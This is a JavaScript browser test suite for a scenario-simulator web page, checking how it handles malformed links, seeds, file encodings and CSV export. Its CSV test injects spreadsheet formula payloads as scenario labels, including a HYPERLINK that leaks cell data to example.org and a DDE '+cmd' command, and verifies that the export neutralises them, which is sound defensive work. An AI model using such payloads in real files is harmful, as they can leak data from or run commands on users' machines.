// Bad input, tried harder (issue 8), in the page: exact range ends and no non-finite number,
// no live formula in a downloaded CSV, the same reading of a link as the command line, no crash
// from a link, no lost session, located file errors that name the file, and the seed field.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { readFileSync, writeFileSync } from 'node:fs';
import { execFileSync } from 'node:child_process';
import path from 'node:path';
import { BASE_URL, ARTIFACTS, ROOT, launch, openPage, waitForResults, outcomeNumbers, assertPageEqualsCli } from './browser.mjs';

let browser;
before(async () => { browser = await launch(); });
after(async () => { await browser?.close(); });

const builtinText = (id) => readFileSync(path.join(ROOT, 'scenarios', `${id}.toml`), 'utf8');
const BINARY = path.join(ROOT, 'target', 'release', 'alignment-sim');

/** The command line's JSON and `link: …` notes for a link. */
function cliRun(link) {
  const out = execFileSync(BINARY, ['run', '--link', link, '--format', 'json'], { encoding: 'utf8', stdio: ['ignore', 'pipe', 'pipe'] });
  return JSON.parse(out);
}

async function notices(page) {
  const list = page.locator('.link-notices li');
  return list.allTextContents();
}

test('a value a hair past a range end is refused with a note, and nothing shown is NaN or infinite', async () => {
  const id = 'event.us-wedge-offer.probability';
  const link = `${BASE_URL}#v=1&s=sino-russian-drift&seed=3&runs=500&${id}=1.0000000000009`;
  const { context, page, problems } = await openPage(browser, link);
  await waitForResults(page);
  const text = (await notices(page)).join('\n');
  assert.match(text, new RegExp(`${id.replace(/\./g, '\\.')}.*outside`));
  const body = await page.locator('body').textContent();
  assert.doesNotMatch(body, /NaN|\binf\b|Infinity/);
  // The page's numbers are the command line's for the same link (which refuses the same value).
  const json = cliRun(link);
  const page_numbers = await outcomeNumbers(page);
  assert.deepEqual(Object.fromEntries(json.outcomes.map((o) => [o.id, o.probability])), page_numbers);
  assert.deepEqual(problems, []);
  await context.close();
});

test('page and command line read a link with a second # and bad view keys alike', async () => {
  const link = `${BASE_URL}#v=1&s=sino-russian-drift&seed=9&runs=500&view.pair=XX-YY&view.tab=blocs#s=us-russia-rapprochement&seed=4`;
  const { context, page, problems } = await openPage(browser, link);
  await waitForResults(page);
  assert.equal(await page.locator('#scenario-picker').inputValue(), 'sino-russian-drift');
  assert.equal(await page.locator('#seed').inputValue(), '9');
  const shown = await notices(page);
  assert.ok(shown.some((n) => n.includes('second #')), shown.join('\n'));
  const json = cliRun(link);
  // The page shows the names the command line puts between backticks as code (no backticks).
  assert.deepEqual(json.link_notes.map((n) => n.replaceAll('`', '')), shown, 'the same notes, in the same order');
  assert.ok(await page.locator('.link-notices li code', { hasText: 'view.tab' }).count() > 0, 'names shown as code');
  assert.doesNotMatch(await page.locator('.link-notices').textContent(), /`/);
  assert.equal(json.settings.seed, 9);
  assert.deepEqual(Object.fromEntries(json.outcomes.map((o) => [o.id, o.probability])), await outcomeNumbers(page));
  assert.deepEqual(problems, []);
  await context.close();
});

test('debug.panic=1 in a link does not crash the page', async () => {
  const { context, page, problems } = await openPage(browser, `${BASE_URL}#v=1&s=russia-dprk-alignment&seed=4&debug.panic=1`);
  await waitForResults(page);
  assert.equal(await page.locator('.panic-banner').count(), 0);
  assert.ok((await notices(page)).some((n) => n.includes('debug.panic')));
  assert.equal(await page.locator('#seed').inputValue(), '4');
  // An unknown key changes nothing: the command line's numbers for the same link.
  await assertPageEqualsCli(page, `${BASE_URL}#v=1&s=russia-dprk-alignment&seed=4&debug.panic=1`);
  assert.deepEqual(problems, []);
  await context.close();
});

test('a bad or newer link neither replaces the saved session nor leaves the address bar until a change', async () => {
  const context = await browser.newContext({ viewport: { width: 1280, height: 900 } });
  // Earlier work: a changed slider, saved as a session.
  const work = await context.newPage();
  await work.goto(`${BASE_URL}#v=1&s=us-russia-rapprochement&seed=21`);
  let generation = await waitForResults(work);
  await work.locator('#a-model_balance').focus();
  await work.keyboard.press('ArrowRight');
  await waitForResults(work, { after: generation });
  await work.waitForFunction(() => location.hash.includes('model.balance='));
  const saved = await work.evaluate(() => location.hash.slice(1));
  await work.waitForFunction((saved) => (localStorage.getItem('alignment-sim.sessions') || '').includes(saved), saved);

  // A link from a newer version with keys this one does not know, and one with a damaged file.
  for (const fragment of ['v=2&s=sino-russian-drift&seed=7&tab=blocs&model.balance=0.03&future.key=1',
    'v=1&s=sino-russian-drift&seed=7&c=AAAA']) {
    const page = await context.newPage();
    await page.goto(`${BASE_URL}#${fragment}`);
    generation = await waitForResults(page);
    await page.waitForTimeout(800); // well past the 250 ms after which the link would be rewritten
    assert.equal(await page.evaluate(() => location.hash.slice(1)), fragment, 'the address bar keeps the link');
    assert.match(await page.locator('.link-notices').textContent(), /address bar still holds the link/);
    assert.equal(await page.locator('#share-url').inputValue(), `${BASE_URL}#${fragment}`);
    await page.reload();
    await waitForResults(page);
    assert.equal(await page.evaluate(() => location.hash.slice(1)), fragment, 'a reload reads it again');
    const sessions = await page.evaluate(() => localStorage.getItem('alignment-sim.sessions') || '');
    assert.ok(!sessions.includes(fragment), 'the unusable link was not saved');
    assert.ok(sessions.includes(saved), 'the earlier session is still there');
    // A change replaces the held link with the page's own.
    generation = await waitForResults(page);
    await page.locator('#seed').fill('8');
    await page.locator('#seed').press('Enter');
    await page.locator('#seed').blur();
    await page.waitForFunction(() => location.hash.includes('seed=8') && !location.hash.includes('future.key'));
    await page.close();
  }

  // The bare page offers the earlier work among the saved sessions.
  const bare = await context.newPage();
  await bare.goto(BASE_URL);
  await bare.locator('.message.restore').waitFor();
  const offered = await bare.locator('.message.restore').textContent();
  assert.match(offered, /Earlier sessions|us-russia-rapprochement/);
  const stored = await bare.evaluate(() => localStorage.getItem('alignment-sim.sessions').trim().split('\n').length);
  assert.ok(stored >= 2 && stored <= 5, `${stored} sessions kept`);
  // The earlier work is among the earlier sessions (the newest are the two held pages after
  // their change); restoring it brings its seed and slider back.
  await bare.locator('.earlier-sessions summary').click();
  await bare.getByRole('button', { name: /Restore the session: us-russia-rapprochement, seed 21, .*1 assumption changed/ }).click();
  await bare.waitForFunction(() => document.querySelector('#scenario-picker').value === 'us-russia-rapprochement');
  assert.equal(await bare.locator('#seed').inputValue(), '21');
  await bare.waitForFunction((saved) => location.hash.slice(1) === saved, saved);
  // …with the numbers the command line gives for that session's link.
  await waitForResults(bare);
  await assertPageEqualsCli(bare, `${BASE_URL}#${saved}`);
  await context.close();
});

test('the seed field refuses what is not a seed and shows the seed in use', async () => {
  const { context, page, problems } = await openPage(browser, `${BASE_URL}#v=1&s=russia-dprk-alignment&seed=5`);
  await waitForResults(page);
  for (const [bad, why] of [['-3', 'it is negative'], ['18446744073709551616', 'it is larger than the largest seed']]) {
    await page.locator('#seed').fill(bad);
    await page.locator('#seed').press('Enter');
    await page.locator('#seed').blur();
    const problem = page.locator('#seed-problem');
    await problem.waitFor();
    assert.match(await problem.textContent(), /not a seed.*18446744073709551615.*stays 5/);
    // Explained, as text: what is wrong with it (the text typed is echoed as code, as typed), no backticks.
    assert.equal(await problem.textContent(), `${bad} is not a seed (a whole number from 0 to 18446744073709551615): ${why}; the seed stays 5.`);
    assert.equal(await page.locator('#seed').inputValue(), '5');
    assert.equal(await page.locator('#seed').getAttribute('aria-invalid'), 'true');
  }
  await page.waitForTimeout(400);
  assert.match(await page.evaluate(() => location.hash), /seed=5(&|$)/);
  await page.locator('#seed').fill('18446744073709551615');
  await page.locator('#seed').press('Enter');
  await page.locator('#seed').blur();
  await page.waitForFunction(() => location.hash.includes('seed=18446744073709551615'));
  assert.equal(await page.locator('#seed-problem').count(), 0);
  assert.deepEqual(problems, []);
  await context.close();
});

test('file errors name the file and the line: not UTF-8, bidirectional controls, too fine a step', async () => {
  const { context, page, problems } = await openPage(browser, `${BASE_URL}#v=1&s=sino-russian-drift&seed=3`);
  await waitForResults(page);
  const before = await outcomeNumbers(page);
  await page.locator('.loader summary').click();
  const text = builtinText('russia-dprk-alignment');
  // Latin-1 bytes in the title (line of `title = `).
  const titleLine = text.slice(0, text.indexOf('\ntitle = ') + 1).split('\n').length;
  const bytes = Buffer.from(text.replace(/^title = .*$/m, 'title = "Caf\u00e9 (speculative)"'), 'utf8');
  const at = bytes.indexOf(Buffer.from('Caf')) + 3;
  const latin1 = Buffer.concat([bytes.subarray(0, at), Buffer.from([0xe9]), bytes.subarray(at + 2)]);
  const file = path.join(ARTIFACTS, 'latin1-scenario.toml');
  writeFileSync(file, latin1);
  await page.locator('#scenario-file').setInputFiles(file);
  const errors = page.locator('.load-errors');
  await errors.waitFor();
  let shown = await errors.textContent();
  assert.match(shown, /latin1-scenario\.toml/, 'the file is named');
  assert.match(shown, new RegExp(`line ${titleLine}`));
  assert.match(shown, /not UTF-8/);
  // The command line says the same about the same bytes.
  let cliError = '';
  try { execFileSync(BINARY, ['validate', file], { encoding: 'utf8', stdio: ['ignore', 'pipe', 'pipe'] }); } catch (e) { cliError = e.stderr; }
  assert.match(cliError, new RegExp(`:${titleLine}: \`title\`: the file is not UTF-8`));

  await page.locator('#scenario-text').fill(text.replace(/^title = "/m, 'title = "\u202e'));
  await page.getByRole('button', { name: 'Load pasted scenario' }).click();
  await page.locator('.load-errors', { hasText: 'U+202E' }).waitFor();
  shown = await errors.textContent();
  assert.match(shown, /pasted text/);
  assert.match(shown, new RegExp(`line ${titleLine}`));

  await page.locator('#scenario-text').fill(text.replace('step = 0.005', 'step = 1e-300'));
  await page.getByRole('button', { name: 'Load pasted scenario' }).click();
  await page.locator('.load-errors', { hasText: 'too fine' }).waitFor();

  assert.equal(await page.locator('#scenario-picker').inputValue(), 'sino-russian-drift', 'nothing else changed');
  assert.deepEqual(await outcomeNumbers(page), before);
  assert.deepEqual(problems, []);
  await context.close();
});

test('a CSV downloaded from the page holds no live formula, and numbers stay numbers', async () => {
  const { context, page, problems } = await openPage(browser, `${BASE_URL}#v=1&s=us-russia-rapprochement`);
  let generation = await waitForResults(page);
  const formulas = ['=HYPERLINK(""http://example.org/?leak=""&A1,""Click me"")', "+cmd|' /C calc'!A0", '@SUM(1+1)', '-2+3'];
  let k = 0;
  const text = builtinText('russia-dprk-alignment').replace(/^label = .*$/gm, () => {
    const f = formulas[k++ % formulas.length].replace(/""/g, '\\"');
    return `label = "${f}"`;
  });
  await page.locator('.loader summary').click();
  await page.locator('#scenario-text').fill(text);
  await page.getByRole('button', { name: 'Load pasted scenario' }).click();
  generation = await waitForResults(page, { after: generation });
  const [download] = await Promise.all([page.waitForEvent('download'), page.getByRole('button', { name: 'Outcomes (CSV)' }).click()]);
  const file = path.join(ARTIFACTS, download.suggestedFilename());
  await download.saveAs(file);
  const csv = readFileSync(file, 'utf8');
  const [quantilesDownload] = await Promise.all([page.waitForEvent('download'), page.getByRole('button', { name: 'Quantiles (CSV)' }).click()]);
  const quantilesFile = path.join(ARTIFACTS, `formula-${quantilesDownload.suggestedFilename()}`);
  await quantilesDownload.saveAs(quantilesFile);
  const quantiles = readFileSync(quantilesFile, 'utf8');
  for (const table of [csv, quantiles]) {
    for (const cell of cells(table)) {
      const live = /^[\s]*[=+\-@\t\r]/.test(cell) && Number.isNaN(Number(cell));
      assert.ok(!live, `a live formula: ${JSON.stringify(cell)}`);
    }
  }
  assert.ok(cells(csv).some((c) => c.startsWith("'") && c.includes('HYPERLINK') || c.startsWith("'+cmd")), csv);
  assert.ok(cells(quantiles).some((c) => c.startsWith('-') && !Number.isNaN(Number(c))), 'negative numbers stay numbers');
  assert.deepEqual(problems, []);
  await context.close();
});

/** RFC 4180 cells of a CSV text, quotes undone. */
function cells(csv) {
  const out = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < csv.length; i++) {
    const c = csv[i];
    if (quoted && c === '"' && csv[i + 1] === '"') { cell += '"'; i++; }
    else if (c === '"') quoted = !quoted;
    else if (!quoted && (c === ',' || c === '\n')) { out.push(cell); cell = ''; }
    else cell += c;
  }
  if (cell) out.push(cell);
  return out;
}
